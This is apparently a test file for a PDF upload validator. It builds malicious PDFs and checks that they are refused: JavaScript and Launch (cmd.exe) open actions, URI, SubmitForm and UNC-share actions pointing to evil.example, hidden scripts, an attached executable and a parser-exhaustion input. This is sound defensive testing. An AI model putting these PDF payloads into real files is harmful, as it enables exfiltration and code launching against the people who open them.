import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { makeKitPdf, makePdf, makePdfWithObjectStream, withUpdate } from '../../testing/pdf-files';
import { pdfProblem } from './pdf-check';

/**
 * The bypass files of the review of issue 28, made here, each refused: the old pattern check (git show
 * fffe3b1:src/server/storage/pdf-check.ts) took those marked "took" in docs/decisions/058.
 */
const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';

describe('pdfProblem', () => {
  it('takes a plain PDF as pdfkit writes it, and the hand-made one, and one with an update', async () => {
    expect(await pdfProblem(await makeKitPdf())).toBeUndefined();
    expect(await pdfProblem(await makeKitPdf((doc) => doc.addPage().text('Page two')))).toBeUndefined();
    expect(await pdfProblem(makePdf())).toBeUndefined();
    const updated = withUpdate(makePdf(), { 5: '<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>' });
    expect(await pdfProblem(updated)).toBeUndefined();
  });

  it('refuses what only starts like a PDF: no trailer, a cut-off upload, an offset pointing nowhere', async () => {
    const pdf = makePdf();
    expect(await pdfProblem(Buffer.from('%PDF-1.4\nhello, this is a text file\n'))).toBe('not_pdf');
    expect(await pdfProblem(pdf.subarray(0, pdf.length - 40))).toBe('not_pdf');
    const wrongOffset = Buffer.from(
      pdf.toString('latin1').replace(/startxref\n\d+/, 'startxref\n12'),
      'latin1',
    );
    expect(await pdfProblem(wrongOffset)).toBe('not_pdf');
  });

  it('refuses a file that does not start with the PDF header, whatever else it holds', async () => {
    expect(await pdfProblem(Buffer.concat([Buffer.from(' '), makePdf()]))).toBe('not_pdf');
    expect(await pdfProblem(Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'))).toBe('not_pdf');
  });

  it('refuses a file whose objects do not read: an unclosed dictionary, bytes between objects', async () => {
    const unclosed = makePdf({ extraObjects: ['<< /Type /Annot /Contents (x)'] });
    expect(await pdfProblem(unclosed)).toBe('not_pdf');
    const junk = Buffer.from(makePdf().toString('latin1').replace('2 0 obj', 'junk here\n2 0 obj'), 'latin1');
    expect(await pdfProblem(junk)).toBe('not_pdf');
  });

  it('refuses scripts, launch actions and attached files, even with their names escaped', async () => {
    expect(await pdfProblem(makePdf({ catalogExtra: `/OpenAction ${SCRIPT} ` }))).toBe('active_content');
    const launch = makePdf({ catalogExtra: '/OpenAction << /S /Launch /F (cmd.exe) >> ' });
    expect(await pdfProblem(launch)).toBe('active_content');
    const names = makePdf({
      catalogExtra: '/Names << /EmbeddedFiles 6 0 R >> ',
      extraObjects: ['<< /Names [] >>'],
    });
    expect(await pdfProblem(names)).toBe('active_content');
    const escaped = makePdf({ catalogExtra: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> ' });
    expect(await pdfProblem(escaped)).toBe('active_content');
  });

  it('reads strings as strings: a script between (stream) and (endstream) strings is seen', async () => {
    const hidden = makePdf({ catalogExtra: `/A (stream\n) /OpenAction ${SCRIPT} /B (endstream) ` });
    expect(await pdfProblem(hidden)).toBe('active_content');
    const launch = makePdf({
      catalogExtra: '/A (stream\n) /OpenAction << /S /Launch /F (cmd.exe) >> /B (endstream) ',
    });
    expect(await pdfProblem(launch)).toBe('active_content');
  });

  it('refuses actions that open addresses, other files or send the form: URI, GoToR (UNC), SubmitForm, ImportData', async () => {
    const actions = [
      '<< /S /URI /URI (https://evil.example/collect) >>',
      '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\claim.pdf) /D [0 /Fit] >>',
      '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>',
      '<< /S /ImportData /F (\\\\\\\\evil.example\\\\share\\\\data.fdf) >>',
    ];
    for (const action of actions) {
      expect(await pdfProblem(makePdf({ catalogExtra: `/OpenAction ${action} ` })), action).toBe(
        'active_content',
      );
      expect(await pdfProblem(makePdf({ catalogExtra: `/AA << /WC ${action} >> ` })), action).toBe(
        'active_content',
      );
    }
  });

  it('refuses a link annotation and a script in the /JavaScript names tree', async () => {
    expect(
      await pdfProblem(await makeKitPdf((doc) => doc.link(72, 72, 100, 20, 'https://evil.example'))),
    ).toBe('active_content');
    const tree = makePdf({
      catalogExtra: '/Names << /JavaScript 6 0 R >> ',
      extraObjects: ['<< /Names [(a) 7 0 R] >>', SCRIPT],
    });
    expect(await pdfProblem(tree)).toBe('active_content');
  });

  it('refuses a script hidden in a compressed object stream', async () => {
    expect(await pdfProblem(makePdfWithObjectStream('/OpenAction 6 0 R ', SCRIPT))).toBe('active_content');
    const plain = makePdfWithObjectStream('', '<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>');
    expect(await pdfProblem(plain)).toBeUndefined();
  });

  it('refuses a script added by an incremental update', async () => {
    const updated = withUpdate(makePdf(), {
      1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>',
      6: SCRIPT,
    });
    expect(await pdfProblem(updated)).toBe('active_content');
  });

  it('refuses an embedded file, as pdfkit attaches it', async () => {
    const attached = await makeKitPdf((doc) => doc.file(Buffer.from('MZ'), { name: 'invoice.exe' }));
    expect(await pdfProblem(attached)).toBe('active_content');
  });

  it('refuses XFA forms', async () => {
    const xfa = makePdf({ catalogExtra: '/AcroForm << /Fields [] /XFA 6 0 R >> ', extraObjects: ['<< >>'] });
    expect(await pdfProblem(xfa)).toBe('active_content');
  });

  it('refuses an encrypted PDF, whose content cannot be looked into, with or without a password', async () => {
    const noPassword = await makeKitPdf(undefined, {
      userPassword: '',
      ownerPassword: 'owner',
      pdfVersion: '1.7',
    });
    expect(await pdfProblem(noPassword)).toBe('encrypted');
    expect(await pdfProblem(await makeKitPdf(undefined, { userPassword: 'user' }))).toBe('encrypted');
  });

  it('does not read names inside stream data, where compressed bytes can spell anything', async () => {
    expect(await pdfProblem(makePdf({ text: '/JavaScript /Launch' }))).toBeUndefined();
  });

  it('answers quickly, and never throws, on hostile bytes', async () => {
    // A megabyte of object headers inside each other's unclosed strings, hidden in a stream's data.
    const nested = '2 0 obj ('.repeat(128 * 1024);
    const hostile = makePdf({
      extraObjects: [`<< /Length ${nested.length} >>\nstream\n${nested}\nendstream`],
    });
    const started = Date.now();
    expect(await pdfProblem(hostile)).toBe('not_pdf');
    expect(Date.now() - started).toBeLessThan(2000);
    const keyword = makePdf({ extraObjects: ['[ 1 0 obj ]'] });
    expect(await pdfProblem(keyword)).toBe('not_pdf');
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 400 }), async (tail) => {
        const bytes = Buffer.concat([
          Buffer.from('%PDF-1.7\n1 0 obj\n'),
          tail,
          Buffer.from('\nstartxref\n9\n%%EOF\n'),
        ]);
        expect(['not_pdf', 'active_content', 'encrypted', undefined]).toContain(await pdfProblem(bytes));
      }),
      { numRuns: 200 },
    );
  });
});
